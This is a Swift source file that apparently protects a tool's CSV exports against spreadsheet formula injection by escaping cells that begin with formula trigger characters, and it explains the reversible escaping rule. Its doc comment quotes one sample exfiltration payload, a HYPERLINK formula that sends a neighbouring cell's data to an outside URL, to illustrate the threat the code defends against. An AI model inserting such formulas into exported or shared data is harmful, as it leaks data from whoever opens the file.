/// CSV cells that a spreadsheet shows as text, never runs as a formula.
///
/// Excel and LibreOffice treat a cell that begins with `=`, `+`, `-` or `@` (and, after a tab or carriage
/// return, the same) as a formula: a memo `=HYPERLINK("https://…?"&A2,"x")` sends data away when the export is
/// opened. The usual defence (OWASP "CSV injection") is a leading `'`, which the spreadsheet hides and which
/// makes the cell text. Gloss must also read its own export back exactly, so the rule is reversible:
///
/// - A *trigger* is `=`, `+`, `-`, `@`, tab or carriage return.
/// - Writing: a cell gets one more leading `'` when it begins with a trigger, or with one or more `'` followed by
///   a trigger — except a plain number (`-3`, `+2.50`), which is no formula and stays a number.
/// - Reading: a cell that begins with one or more `'` followed by a trigger loses one `'`.
///
/// `unescaped(escaped(s)) == s` for every string: a cell that begins with a trigger is written with exactly one
/// `'` before it, a cell that begins with `'…'` and a trigger with one `'` more, and every other cell (plain
/// numbers included) neither gains a `'` nor begins with `'`s and a trigger, so reading leaves it alone.
public enum SpreadsheetSafe {
    /// How CSV cells are written and read.
    public enum Cells: Sendable {
        /// Formula-like cells carry the leading `'` (the default everywhere).
        case spreadsheetSafe
        /// Cells exactly as they are (`--raw-csv`).
        case raw
    }

    static func isTrigger(_ scalar: Unicode.Scalar) -> Bool {
        scalar == "=" || scalar == "+" || scalar == "-" || scalar == "@" || scalar == "\t" || scalar == "\r"
    }

    /// Whether the cell begins with one or more `'` followed by a trigger.
    static func beginsWithQuotesAndTrigger(_ scalars: String.UnicodeScalarView) -> Bool {
        guard let first = scalars.firstIndex(where: { $0 != "'" }), first != scalars.startIndex else { return false }
        return isTrigger(scalars[first])
    }

    /// `-3`, `+2.50`, `12`: a number a spreadsheet reads as a number.
    static func isPlainNumber(_ scalars: String.UnicodeScalarView) -> Bool {
        var rest = Substring.UnicodeScalarView(scalars)
        if let sign = rest.first, sign == "-" || sign == "+" { rest = rest.dropFirst() }
        let parts = String(rest).split(separator: ".", maxSplits: 1, omittingEmptySubsequences: false)
        return parts.allSatisfy { !$0.isEmpty && $0.unicodeScalars.allSatisfy { ("0"..."9").contains($0) } }
    }

    /// The cell as written to a CSV file a spreadsheet may open.
    public static func escaped(_ cell: String) -> String {
        let scalars = cell.unicodeScalars
        guard let first = scalars.first else { return cell }
        if isTrigger(first) ? !isPlainNumber(scalars) : beginsWithQuotesAndTrigger(scalars) { return "'" + cell }
        return cell
    }

    /// The cell as it was before `escaped`.
    public static func unescaped(_ cell: String) -> String {
        beginsWithQuotesAndTrigger(cell.unicodeScalars) ? String(String.UnicodeScalarView(cell.unicodeScalars.dropFirst())) : cell
    }
}
